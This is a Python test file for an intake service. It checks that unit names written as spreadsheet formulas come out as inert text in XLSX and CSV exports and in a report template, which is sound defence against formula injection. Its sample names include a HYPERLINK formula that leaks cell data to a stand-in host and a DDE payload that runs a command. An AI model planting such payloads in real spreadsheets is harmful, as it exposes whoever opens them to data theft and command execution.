"""Unit names that a spreadsheet would run as formulas come out as inert text in every CSV and XLSX
the intake writes: the exports and the report template."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from services.intake import registry
from shared import db
from shared.catalogue import Catalogue
from shared.models import PilotUnit
from tests.support.reports import clean_report, open_round

NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.fixture
def hostile_units(tokens: dict[str, str], client: Any, catalogue: Catalogue) -> list[str]:
    """Four 鼓楼区 units renamed as formulas, each with a report."""
    with db.transaction() as session:
        units = session.scalars(
            select(PilotUnit).where(PilotUnit.district_code == "350102").order_by(PilotUnit.id).limit(4)
        ).all()
        for unit, name in zip(units, NAMES, strict=True):
            registry.edit_unit(session, unit, name, "", True, None)
        codes = [unit.credit_code for unit in units]
    for code in codes:
        report = clean_report(catalogue, code, open_round())
        answer = client.post(
            "/api/v1/submissions", json=report, headers={"Authorization": f"Bearer {tokens['gulou']}"}
        )
        assert answer.status_code == 202
    return codes


def no_formulas(content: bytes) -> list[str]:
    """The workbook's text cells (asserting that no cell of any sheet is a formula)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(content))
    texts = []
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                texts.append(cell.value)
    return texts


def test_it_writes_formula_names_as_text_in_the_xlsx_export(auth: Any, hostile_units: list[str]) -> None:
    supervisor = auth.sign_in("supervisor")
    answer = supervisor.get(f"/sheets/export/reports.xlsx?round={open_round()}")
    assert answer.status_code == 200
    assert set(NAMES) <= set(no_formulas(answer.data))


def test_it_prefixes_formula_names_with_a_quote_in_the_csv_export(
    auth: Any, hostile_units: list[str]
) -> None:
    supervisor = auth.sign_in("supervisor")
    answer = supervisor.get(f"/sheets/export/reports.csv?round={open_round()}")
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    names = {row[2] for row in rows[1:]}
    assert {"'" + name for name in NAMES} <= names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_it_writes_formula_names_as_text_in_the_report_template(auth: Any, hostile_units: list[str]) -> None:
    clerk = auth.sign_in("gulou")
    answer = clerk.get(f"/sheets/template.xlsx?round={open_round()}")
    assert answer.status_code == 200
    assert set(NAMES) <= set(no_formulas(answer.data))
